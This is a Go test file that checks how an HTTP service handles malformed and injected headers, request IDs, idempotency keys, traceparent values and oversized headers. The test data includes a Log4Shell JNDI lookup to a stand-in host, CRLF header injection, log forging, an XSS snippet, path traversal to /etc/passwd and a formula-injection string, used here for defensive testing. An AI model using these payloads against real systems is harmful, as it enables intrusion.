package server_test

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/uuid"
)

// header are malformed fields, and values with control characters or injection attempts (RFC 9110, section 5.5; RFC
// 9112, section 5).
func header(s *service) []row {
	rows := []row{
		{name: "no colon", sent: s.get("/healthz", "X"), want: refused},
		{name: "no name", sent: s.get("/healthz", ": y"), want: refused},
		{name: "space before the colon", sent: s.get("/healthz", "X : y"), want: refused},
		{name: "tab before the colon", sent: s.get("/healthz", "X\t: y"), want: refused},
		{name: "space before the first field", sent: bare("GET /healthz HTTP/1.1", " Host: "+s.address), want: refused},
		{name: "folded", sent: s.get("/healthz", "X: y\r\n z", "A: b\r\n\tc"), want: "200"},
		{name: "folded many times", sent: s.get("/healthz", "X: y"+strings.Repeat("\r\n z", 1000)), want: "200"},
		{name: "LF that begins a field", sent: s.get("/healthz", "X: y\nZ: z"), want: "200"},
		{name: "CR at the end", sent: s.get("/healthz", "X: y\r"), want: refused},
		{name: "tab", sent: s.get("/healthz", "X: a\tb"), want: "200"},
		{name: "beyond ASCII", sent: s.get("/healthz", "X: é\xff\xfe"), want: "200"},
		{name: "no value", sent: s.get("/healthz", "X:"), want: "200"},
		{name: "white space alone", sent: s.get("/healthz", "X:  \t "), want: "200"},
		{name: "format verbs", sent: s.get("/healthz", "X: %s%n%!d(MISSING)"), want: "200"},
		{name: "look-up of Log4Shell", sent: s.get("/healthz", "X: ${jndi:ldap://evil.example/a}",
			"User-Agent: ${jndi:ldap://evil.example/a}"), want: "200"},
		{name: "cookies", sent: s.get("/healthz", "Cookie: a=b; c=\"d\x7f", "Cookie: e=f"), want: refused},
		{name: "cookies without control characters", sent: s.get("/healthz", "Cookie: a=b; c=\"d", "Cookie: e=f"),
			want: "200"},
		{name: "Range", sent: s.get("/healthz", "Range: bytes=0-1"), want: "200"},
		{name: "Accept of an unavailable type", sent: s.get("/healthz", "Accept: image/png;q=1, */*;q=0"), want: "200"},
		{name: "Accept-Encoding", sent: s.get("/healthz", "Accept-Encoding: gzip, br, zstd"), want: "200"},
		{name: "If-None-Match", sent: s.get("/healthz", "If-None-Match: *",
			"If-Modified-Since: Thu, 01 Jan 2099 00:00:00 GMT"), want: "200"},
	}
	for _, c := range []byte{0x00, 0x01, '\a', '\b', '\v', '\f', 0x1b, 0x1f, 0x7f} {
		rows = append(rows, row{name: fmt.Sprintf("value with %#02x", c), sent: s.get("/healthz", "X: a"+string(c)+"b"),
			want: refused})
	}
	rows = append(rows, row{name: "value with CR", sent: s.get("/healthz", "X: a\rb"), want: refused})
	for _, c := range []string{"\x00", "\r", "\x1f", " ", "\t", "(", ")", "@", "/", "[", "{", "\"", "\\", ",", ";", "=",
		"?", "\x7f", "\x80", "é"} {
		rows = append(rows, row{name: fmt.Sprintf("name with %q", c), sent: s.get("/healthz", "X"+c+"Y: z"), want: refused})
	}
	return rows
}

// requestIDs: the service replaces an X-Request-Id that could be misread in a log.
func requestIDs(s *service) []row {
	var rows []row
	for name, given := range map[string]string{
		"none": "", "space": "a b", "tab": "a\tb", "comma": "a,b", "semicolon": "a;b", "quote": `a"b`, "apostrophe": "a'b",
		"slash":     "a/b",
		"backslash": `a\nb`, "JSON": `{"level":"ERROR"}`, "markup": "<script>alert(1)</script>",
		"percent":      "a%0d%0aX-Evil:%20b",
		"beyond ASCII": "é", "not UTF-8": "\xff\xfe", "line separator": "a\u2028b",
		"129 characters":   strings.Repeat("a", 129),
		"8,000 characters": strings.Repeat("a", 8000), "folded": "a\r\n b", "path": "../../etc/passwd",
		"look-up": "${jndi:ldap://evil.example}",
		"plus":    "a+b", "question": "a?b=c", "format verb": "%s", "at": "a@b", "formula": "=1+1|cmd",
		"kelvin sign": "\u212a",
	} {
		rows = append(rows, row{name: name, sent: s.get("/healthz", "X-Request-Id: "+given), want: "200",
			also: func(t *testing.T, r []reply) {
				if id := r[0].header.Get("X-Request-Id"); uuid.Validate(id) != nil || id == given {
					t.Errorf("X-Request-Id: got %q for %q, want a new one", id, given)
				}
			}})
	}
	for name, given := range map[string]string{
		"one character": "a", "128 characters": strings.Repeat("a", 128), "UUID": unknownID, "punctuation": "a.b_c:d=e-f",
		"of a load balancer": "Root=1-67891233-abcdef012345678912345678",
	} {
		rows = append(rows, row{name: name, sent: s.get("/healthz", "X-Request-Id: \t"+given+" "), want: "200",
			also: func(t *testing.T, r []reply) {
				if id := r[0].header.Get("X-Request-Id"); id != given {
					t.Errorf("X-Request-Id: got %q, want %q", id, given)
				}
			}})
	}
	return append(rows, row{name: "CR", sent: s.get("/healthz", "X-Request-Id: a\rb"), want: refused},
		row{name: "NUL", sent: s.get("/healthz", "X-Request-Id: a\x00b"), want: refused},
		row{name: "LF, which begins a field", sent: s.get("/healthz", "X-Request-Id: first\nX-Evil: b"), want: "200"})
}

// idempotencyKeys: 1 to 255 printable ASCII characters, once. Anonymous clients must send a random UUID.
func idempotencyKeys(s *service) []row {
	var rows []row
	for name, given := range map[string]string{
		"none": "", "space inside": "a b", "tab inside": "a\tb", "folded": "a\r\n b",
		"256 characters":   strings.Repeat("k", 256),
		"8,000 characters": strings.Repeat("k", 8000),
		"beyond ASCII":     "é", "not UTF-8": "\xff", "line separator": "a\u2028b",
	} {
		rows = append(rows,
			row{name: name, sent: s.json("{}", "Idempotency-Key: "+given), want: "400 invalid-request"},
			row{name: name + ", without a body", sent: s.head("POST /import", "Idempotency-Key: "+given),
				want: "400 invalid-request"})
	}
	longest, path := uuid.NewString()+strings.Repeat("~", 255-36), "201"
	if !s.authenticated {
		longest, path = uuid.NewString(), "400 idempotency-key-weak"
	}
	return append(rows,
		row{name: "NUL", sent: s.json("{}", "Idempotency-Key: a\x00"), want: refused},
		row{name: "DEL", sent: s.json("{}", "Idempotency-Key: a\x7f"), want: refused},
		row{name: "two", sent: s.json("{}", "Idempotency-Key: a", "Idempotency-Key: a"), want: "400 invalid-request"},
		row{name: "the longest key, three times",
			sent: strings.Repeat(s.json("{}", "Idempotency-Key: "+longest), 2) +
				s.json(`{"size":1}`, "Idempotency-Key: "+longest),
			want: "201, 201, 422 idempotency-key-reused"},
		row{name: "path", sent: s.json("{}", "Idempotency-Key: ../../"+uuid.NewString()), want: path},
		row{name: "on an operation without one", sent: s.get("/import?cursor="+unknownID, "Idempotency-Key: a b"),
			want: "200"},
	)
}

// traces: the service ignores an invalid traceparent (W3C Trace Context, section 3.2).
func traces(s *service) []row {
	const trace, parent = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7"
	const good = "00-" + trace + "-" + parent + "-01"
	var rows []row
	for name, c := range map[string]struct {
		fields []string
		want   any // trace_id in the access log
	}{
		"good":                       {[]string{good}, trace},
		"of a later version":         {[]string{"01-" + trace + "-" + parent + "-01-more"}, trace},
		"none":                       {[]string{""}, nil},
		"in capitals":                {[]string{strings.ToUpper(good)}, nil},
		"trace of zeros":             {[]string{"00-" + strings.Repeat("0", 32) + "-" + parent + "-01"}, nil},
		"parent of zeros":            {[]string{"00-" + trace + "-" + strings.Repeat("0", 16) + "-01"}, nil},
		"version ff":                 {[]string{"ff-" + trace + "-" + parent + "-01"}, nil},
		"too short":                  {[]string{good[:54]}, nil},
		"too long":                   {[]string{good + "-x"}, nil},
		"not hexadecimal":            {[]string{"00-" + strings.Repeat("g", 32) + "-" + parent + "-01"}, nil},
		"JSON":                       {[]string{`","level":"ERROR"`}, nil},
		"two":                        {[]string{good, good}, nil},
		"folded":                     {[]string{"00-" + trace + "-\r\n " + parent + "-01"}, nil},
		"8,000 characters":           {[]string{good + strings.Repeat("-", 8000)}, nil},
		"of a later version, forged": {[]string{`01-` + trace + "-" + parent + `-01-","level":"ERROR`}, trace},
	} {
		id := s.fresh()
		fields := []string{"X-Request-Id: " + id, "Tracestate: a=b,c=\"d"}
		for _, given := range c.fields {
			fields = append(fields, "Traceparent: "+given)
		}
		rows = append(rows, row{name: name, sent: s.get("/healthz", fields...), want: "200",
			also: func(t *testing.T, _ []reply) {
				if got := s.logLine(t, id)["trace_id"]; got != c.want {
					t.Errorf("trace_id: got %v, want %v", got, c.want)
				}
			}})
	}
	return rows
}

// sizes are headers with many fields or bytes. net/http itself stops reading after 36 KiB.
func sizes(s *service) []row {
	fields := func(n, size int) (fields []string) {
		for i := range n {
			name := fmt.Sprintf("X-%d: ", i)
			fields = append(fields, name+strings.Repeat("x", max(0, size-len(name))))
		}
		return fields
	}
	return []row{
		{name: "100 fields", sent: s.get("/healthz", fields(100, 20)...), want: "200"},
		{name: "1,000 fields", sent: s.get("/healthz", fields(1000, 9)...), want: "200"},
		{name: "1,000 times one field",
			sent: s.get("/healthz", strings.Split(strings.Repeat("X: y\n", 999)+"X: y", "\n")...), want: "200"},
		{name: "15 KiB in one", sent: s.get("/healthz", fields(1, 15<<10)...), want: "200"},
		{name: "15 KiB in many", sent: s.get("/healthz", fields(150, 100)...), want: "200"},
		{name: "17 KiB in one", sent: s.get("/healthz", fields(1, 17<<10)...), want: "431 header-too-large"},
		{name: "17 KiB in many", sent: s.get("/healthz", fields(1700, 10)...), want: "431 header-too-large"},
		{name: "17 KiB in a name", sent: s.get("/healthz", strings.Repeat("X", 17<<10)+": y"), want: "431 header-too-large"},
		{name: "17 KiB in the key", sent: s.get("/import", "X-Api-Key: "+strings.Repeat("x", 17<<10)),
			want: "431 header-too-large"},
		{name: "17 KiB of HEAD", sent: s.head("HEAD /healthz", fields(1, 17<<10)...), want: "431"},
		{name: "17 KiB, then the next", sent: s.get("/healthz", fields(1, 17<<10)...) + s.get("/healthz"),
			want: "431 header-too-large, 200"},
		{name: "40 KiB in one", sent: s.get("/healthz", fields(1, 40<<10)...) + s.hidden(), want: "431 plain, closed"},
		{name: "40 KiB in many", sent: s.get("/healthz", fields(400, 100)...) + s.hidden(), want: "431 plain, closed"},
		{name: "1 MiB", sent: s.get("/healthz", fields(1, 1<<20)...), want: "431 plain, closed"},
		{name: "1 MiB folded", sent: s.get("/healthz", "X: y"+strings.Repeat("\r\n z", 1<<18)), want: "431 plain, closed"},
	}
}
